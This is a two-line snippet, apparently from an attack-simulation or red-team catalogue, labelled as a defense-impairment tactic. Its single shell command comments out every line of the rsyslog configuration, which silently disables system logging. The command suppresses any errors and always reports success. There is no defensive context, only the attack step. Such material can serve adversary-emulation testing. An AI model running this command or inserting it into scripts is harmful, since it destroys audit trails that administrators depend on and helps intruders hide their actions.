# tactic: defense-impairment
sed -i 's/^/#/' /etc/rsyslog.conf 2>/dev/null; true
